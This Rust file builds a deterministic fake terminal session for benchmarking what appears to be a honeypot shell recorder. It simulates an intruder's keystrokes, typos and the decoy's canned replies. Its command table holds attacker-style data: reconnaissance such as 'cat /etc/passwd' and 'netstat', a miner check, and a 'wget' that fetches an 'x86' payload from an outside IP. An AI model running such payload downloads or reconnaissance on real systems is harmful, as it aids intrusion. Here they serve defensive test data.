//! A deterministic, realistic interactive session for benchmarks and
//! profiling: typed keystrokes with their echo, typos fixed with DEL, pasted
//! lines, coloured and non-ASCII output, errors and a prompt after each
//! command. Timestamps have six decimals, as the recorder writes them.
//!
//! Shared by `benches/engine.rs` and the profiling example through `#[path]`
//! (a file in a subdirectory of `benches/` is not a bench target itself).

use behave_shell_native::event::{Channel, Event};
use behave_shell_native::text::Text;

const PROMPT: &[u8] = b"root@decoy:~# ";

/// Commands and what the decoy prints for them; an empty output is a
/// command that prints nothing, `None` one the shell does not know.
const COMMANDS: [(&str, Option<&str>); 24] = [
    ("id", Some("uid=0(root) gid=0(root) groups=0(root)")),
    ("whoami", Some("root")),
    (
        "uname -a",
        Some("Linux decoy 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux"),
    ),
    ("pwd", Some("/root")),
    (
        "w",
        Some(
            " 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    203.0.113.50     10:13    1.00s  0.02s  0.00s w",
        ),
    ),
    (
        "ls -la --color",
        Some(
            "total 28\n\x1b[01;34mdrwx------\x1b[0m  4 root root 4096 Apr 30 09:12 \x1b[01;34m.\x1b[0m\n-rw-------  1 root root  512 Apr 30 09:12 .bash_history\n-rw-r--r--  1 root root 3106 Oct 15  2021 .bashrc\n\x1b[01;34mdrwx------\x1b[0m  2 root root 4096 Mar  2 11:52 \x1b[01;34m.ssh\x1b[0m",
        ),
    ),
    (
        "cat /etc/passwd",
        Some(
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash",
        ),
    ),
    ("nproc", Some("2")),
    (
        "free -m",
        Some(
            "               total        used        free      shared  buff/cache   available\nMem:            1987         412         903           1         671        1402\nSwap:              0           0           0",
        ),
    ),
    (
        "df -h",
        Some(
            "Filesystem      Size  Used Avail Use% Mounted on\n/dev/xvda1       39G  9.9G   29G  26% /\ntmpfs           994M     0  994M   0% /dev/shm",
        ),
    ),
    (
        "netstat -tlnp",
        Some(
            "Active Internet connections (only servers)\nProto Recv-Q Send-Q Local Address   Foreign Address State  PID/Program name\ntcp        0      0 0.0.0.0:22      0.0.0.0:*       LISTEN 611/sshd",
        ),
    ),
    ("cd /tmp", Some("")),
    ("ps aux | grep -v grep | grep -i miner", Some("")),
    (
        "cat /proc/cpuinfo | grep name | head -n 1",
        Some("model name\t: Intel(R) Xeon(R) CPU E5-2676"),
    ),
    ("locale", Some("LANG=fr_FR.UTF-8\nLC_CTYPE=\"fr_FR.UTF-8\"")),
    (
        "cat motd",
        Some(
            "Bienvenue sur le serveur de d\u{e9}veloppement \u{2014} acc\u{e8}s r\u{e9}serv\u{e9}\n\u{250c}\u{2500}\u{2500}\u{2510} \u{2514}\u{2500}\u{2500}\u{2518}",
        ),
    ),
    (
        "wget http://198.51.100.23/x86",
        Some("Connecting to 198.51.100.23:80... failed: Connection refused."),
    ),
    ("ifconfig", None),
    ("sudo su", None),
    (
        "ls /nonexistent",
        Some("ls: cannot access '/nonexistent': No such file or directory"),
    ),
    ("history", Some("    1  id\n    2  whoami\n    3  uname -a")),
    ("echo ok", Some("ok")),
    ("crontab -l", Some("no crontab for root")),
    (
        "uptime",
        Some(" 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01"),
    ),
];

/// Splitmix64: small, deterministic, good enough for timing jitter.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `lo..hi` microseconds.
    fn micros(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.next() % (hi - lo).max(1)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// The session being written, with its clock in whole microseconds.
struct Recorder {
    clock_us: u64,
    events: Vec<Event>,
}

impl Recorder {
    fn emit(&mut self, channel: Channel, data: &[u8], delay_us: u64) {
        self.clock_us += delay_us;
        // Recorder payloads above 975 bytes are split into several events.
        for chunk in data.chunks(975) {
            self.events.push(Event {
                // The nearest double to the six-decimal literal, as parsed.
                t: self.clock_us as f64 / 1e6,
                channel,
                data: Text::Bytes(chunk.to_vec()),
            });
        }
    }

    fn output(&mut self, data: &[u8], delay_us: u64) {
        self.emit(Channel::Output, data, delay_us);
    }

    fn input(&mut self, data: &[u8], delay_us: u64) {
        self.emit(Channel::Input, data, delay_us);
    }
}

fn crlf(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

/// A session of `commands` command lines, the same for the same arguments.
pub fn interactive_session(commands: usize, seed: u64) -> Vec<Event> {
    let mut rng = Rng(seed);
    let mut rec = Recorder {
        clock_us: 0,
        events: Vec::with_capacity(commands * 24),
    };
    rec.output(
        &crlf("Welcome to Ubuntu 22.04.3 LTS (GNU/Linux 5.15.0-91-generic x86_64)\n\nLast login: Thu May  1 22:41:07 2026 from 198.51.100.77\n"),
        120_000,
    );
    rec.output(PROMPT, 20_000);

    let mut log = String::new();
    for line in 0..40 {
        log.push_str(&format!(
            "May  2 0{}:{:02}:{:02} decoy sshd[{}]: Failed password for root from 203.0.113.{} port {} ssh2\n",
            line % 10,
            line,
            (line * 7) % 60,
            1000 + line,
            line,
            40000 + line * 13
        ));
    }

    for i in 0..commands {
        let pick = rng.below(COMMANDS.len() as u64 + 1) as usize;
        let (command, output) = match COMMANDS.get(pick) {
            Some(&(c, o)) => (c, o.map(str::to_owned)),
            // Now and then a long log, which spans several events.
            None => ("cat /var/log/auth.log", Some(log.clone())),
        };
        // Think time before the command; sometimes a long pause.
        let think = if rng.below(10) == 0 {
            rng.micros(3_000_000, 20_000_000)
        } else {
            rng.micros(300_000, 2_500_000)
        };
        rec.clock_us += think;

        if i % 7 == 3 {
            // A pasted line, echoed at once.
            let mut line = command.as_bytes().to_vec();
            line.push(b'\r');
            rec.input(&line, 0);
            rec.output(command.as_bytes(), 500);
        } else {
            for &key in command.as_bytes() {
                if key.is_ascii_alphabetic() && rng.below(25) == 0 {
                    rec.input(b"s", rng.micros(40_000, 250_000));
                    rec.output(b"s", 400);
                    rec.input(b"\x7f", rng.micros(80_000, 400_000));
                    rec.output(b"\x08 \x08", 400);
                }
                rec.input(&[key], rng.micros(40_000, 250_000));
                rec.output(&[key], 400);
            }
            rec.input(b"\r", rng.micros(60_000, 300_000));
        }

        rec.output(b"\r\n", rng.micros(200, 800));
        let text = match output {
            Some(text) => text,
            None => format!(
                "-bash: {}: command not found",
                command.split(' ').next().unwrap_or("")
            ),
        };
        if !text.is_empty() {
            let mut body = crlf(&text);
            body.extend_from_slice(b"\r\n");
            rec.output(&body, rng.micros(5_000, 120_000));
        }
        rec.output(PROMPT, rng.micros(1_000, 10_000));
    }
    rec.input(b"exit\r", 900_000);
    rec.output(b"\r\nlogout\r\n", 500);
    rec.events
}
